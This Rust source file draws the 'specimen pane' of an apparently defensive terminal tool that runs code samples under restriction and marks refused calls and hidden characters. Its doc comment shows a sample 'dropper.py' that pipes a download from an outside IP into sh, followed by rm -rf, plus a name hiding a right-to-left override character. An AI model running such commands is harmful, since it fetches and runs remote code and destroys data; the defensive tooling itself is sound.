//! The specimen pane.
//!
//! ```text
//! ╔ 1 Specimen dropper.py • edited ═════════════ python · 1 KiB ╗
//! ║  1 import os                                                ║
//! ║▲ 2 name = 'user<U+202E>nimda'                               ║
//! ║● 3 os.system('curl http://198.51.100.7/payload | sh; rm -rf›║
//! ╚ EDIT  esc to leave ════════ Ln 3, Col 1 · 1 hidden character ╝
//! ```

mod row;
mod title;

#[cfg(test)]
mod tests;

use std::collections::BTreeSet;

use ratatui::Frame;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;

use super::denials::lines;
use super::frame::{self, Title};
use crate::tui::cells::{clip, fit, width};
use crate::tui::command::Command;
use crate::tui::editor::Editor;
use crate::tui::layout::Pane;
use crate::tui::state::State;
use crate::tui::theme::{Role, Theme};
use row::{Line, Piece};

/// What is drawn.
#[derive(Clone, Debug)]
pub struct View {
    focused: bool,
    title: Title,
    /// How to leave, while keys type into the specimen.
    editing: Option<String>,
    body: Body,
}

#[derive(Clone, Debug)]
enum Body {
    /// Nothing is loaded: what could be done.
    Empty(Vec<String>),
    /// The lines in sight, behind a gutter of so many cells.
    Rows(usize, Vec<Row>),
}

/// A line in sight.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Row {
    /// Its number, from 1.
    number: usize,
    sign: Option<Sign>,
    /// Refused calls from it are held.
    marked: bool,
    /// The cursor is on it.
    current: bool,
    pieces: Vec<Piece>,
}

/// What the gutter says of a line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Sign {
    /// It has hidden characters.
    Hidden,
    /// A call from it was refused.
    Denied,
    /// The call that is held, or the selected denial, came from it.
    Selected,
}

impl Sign {
    const fn symbol(self) -> &'static str {
        match self {
            Self::Hidden => "▲",
            Self::Denied => "●",
            Self::Selected => "▶",
        }
    }

    const fn role(self) -> Role {
        match self {
            Self::Hidden => Role::Mark,
            Self::Denied | Self::Selected => Role::Bad,
        }
    }
}

/// The lines (from 1) from which calls were refused.
#[derive(Clone, Debug, Default)]
struct Refused {
    lines: BTreeSet<usize>,
    /// The one of the call that is held, or of the selected denial.
    selected: Option<usize>,
    /// Those at which refused calls are held.
    marked: BTreeSet<usize>,
}

impl Refused {
    fn of(state: &State) -> Self {
        let marked: BTreeSet<usize> =
            state.marks.iter().filter_map(|(revision, line)| state.editor.line_now(*revision, *line)).collect();
        let Some(run) = state.runs.shown() else { return Self { marked, ..Self::default() } };
        let asked = || lines::now(run, &state.editor, state.asked()?.1.source.specimen_line()?);
        let selected = || lines::of_row(run, &state.editor, state.denials.selected_row(run)?).ok();
        Self { lines: lines::denied(run, &state.editor), selected: asked().or_else(selected), marked }
    }

    /// A refusal says more than a hidden character, which is marked in its line too.
    fn sign(&self, editor: &Editor, line: usize) -> Option<Sign> {
        if self.selected == Some(line + 1) {
            Some(Sign::Selected)
        } else if self.lines.contains(&(line + 1)) {
            Some(Sign::Denied)
        } else {
            editor.findings(line).next().map(|_| Sign::Hidden)
        }
    }
}

/// Makes the view of a pane with that inner area.
pub fn view(state: &State, inner: Rect) -> View {
    let focused = state.focus == Pane::Specimen;
    let refused = Refused::of(state);
    view_of(&state.editor, &refused, focused, state.editing, inner, |command| state.keymap.shown(command))
}

fn view_of(
    editor: &Editor,
    refused: &Refused,
    focused: bool,
    editing: bool,
    inner: Rect,
    key: impl Fn(Command) -> String,
) -> View {
    View {
        focused,
        title: title::of(editor, refused.lines.len(), editing, usize::from(inner.width)),
        editing: editing.then(|| leave(&key(Command::Back))),
        body: if editor.is_empty() && !editing {
            Body::Empty(invitation(&key))
        } else {
            body(editor, refused, editing, inner)
        },
    }
}

fn leave(key: &str) -> String {
    if key.is_empty() { String::new() } else { format!("{key} to leave") }
}

fn body(editor: &Editor, refused: &Refused, editing: bool, inner: Rect) -> Body {
    let window = editor.window(inner.as_size());
    let gutter = editor.gutter(inner.width);
    let cells = window.left..window.left + usize::from(inner.width).saturating_sub(gutter);
    let lines = window.top..editor.lines().len().min(window.top + usize::from(inner.height));
    let (line_of_cursor, byte) = editor.cursor();
    let row = |line| {
        let current = line == line_of_cursor;
        let cursor = (current && editing).then_some(byte);
        Row {
            number: line + 1,
            sign: refused.sign(editor, line),
            marked: refused.marked.contains(&(line + 1)),
            current,
            pieces: Line::pieces_of(editor, line, cursor, cells.clone()),
        }
    };
    Body::Rows(gutter, lines.map(row).collect())
}

/// What can be done where there is no specimen; a command without a key is left to the palette.
fn invitation(key: impl Fn(Command) -> String) -> Vec<String> {
    let mut lines = vec!["No specimen yet".to_owned(), String::new(), "Paste code here".to_owned()];
    let keys = [
        (Command::Corpus, "for a probe, such as the fork bomb"),
        (Command::Open, "to open a file"),
        (Command::Edit, "to type"),
        (Command::Drill, "to try every probe on this machine"),
    ];
    let keys = keys.map(|(command, what)| (key(command), what));
    let rows: Vec<String> =
        keys.iter().filter(|(key, _)| !key.is_empty()).map(|(key, what)| format!("press {key} {what}")).collect();
    // One below the other: each line is centred on its own otherwise.
    let widest = rows.iter().map(|row| width(row)).max().unwrap_or(0);
    lines.extend(rows.iter().map(|row| fit(row, widest)));
    lines
}

/// Draws it.
pub fn render(frame: &mut Frame<'_>, area: Rect, view: &View, theme: &Theme) {
    let inner = frame::draw(frame, area, Pane::Specimen, view.focused, &view.title, theme);
    let buffer = frame.buffer_mut();
    if let Some(leave) = &view.editing {
        draw_editing(buffer, area, inner, leave, &view.title, theme);
    }
    match &view.body {
        Body::Empty(lines) => draw_invitation(buffer, inner, lines, theme),
        Body::Rows(gutter, rows) => {
            for (y, row) in (inner.y..inner.bottom()).zip(rows) {
                draw_row(buffer, Rect { y, height: 1, ..inner }, *gutter, row, theme);
            }
        }
    }
}

fn draw_editing(buffer: &mut Buffer, area: Rect, inner: Rect, leave: &str, title: &Title, theme: &Theme) {
    let taken = if title.bottom.is_empty() { 0 } else { width(&title.bottom) + 2 };
    let room = usize::from(inner.width).saturating_sub(taken);
    if area.height == 0 || room < title::EDIT.len() {
        return;
    }
    let y = area.bottom() - 1;
    let (x, _) = buffer.set_stringn(inner.x, y, title::EDIT, room, theme.style(Role::Accent));
    if !leave.is_empty() && title::EDIT.len() + width(leave) + 1 < room {
        buffer.set_stringn(x, y, format!("{leave} "), room, theme.style(Role::Muted));
    }
}

fn draw_invitation(buffer: &mut Buffer, inner: Rect, lines: &[String], theme: &Theme) {
    let height = u16::try_from(lines.len()).unwrap_or(u16::MAX);
    let top = inner.y + inner.height.saturating_sub(height) / 2;
    for (y, line) in (top..inner.bottom()).zip(lines) {
        let text = clip(line, usize::from(inner.width));
        let left = (usize::from(inner.width) - width(&text)) / 2;
        let x = inner.x + u16::try_from(left).unwrap_or(0);
        buffer.set_stringn(x, y, &text, usize::from(inner.width), theme.style(Role::Muted));
    }
}

fn draw_row(buffer: &mut Buffer, area: Rect, gutter: usize, row: &Row, theme: &Theme) {
    let end = area.right();
    let mut x = area.x;
    if row.current {
        buffer.set_style(area, theme.style(Role::CursorLine));
    }
    if gutter > 0 {
        let (symbol, role) = row.sign.map_or((" ", Role::LineNumber), |sign| (sign.symbol(), sign.role()));
        x = buffer.set_stringn(x, area.y, symbol, 1, theme.style(role)).0;
        let number = format!("{:>width$}", row.number, width = gutter - 2);
        x = buffer.set_stringn(x, area.y, number, gutter - 2, theme.style(Role::LineNumber)).0;
        let (mark, role) = if row.marked { ("◆", Role::Accent) } else { (" ", Role::LineNumber) };
        x = buffer.set_stringn(x, area.y, mark, 1, theme.style(role)).0;
    }
    for piece in &row.pieces {
        x = buffer
            .set_stringn(x, area.y, &piece.text, usize::from(end.saturating_sub(x)), piece.meaning.style(theme))
            .0;
    }
}
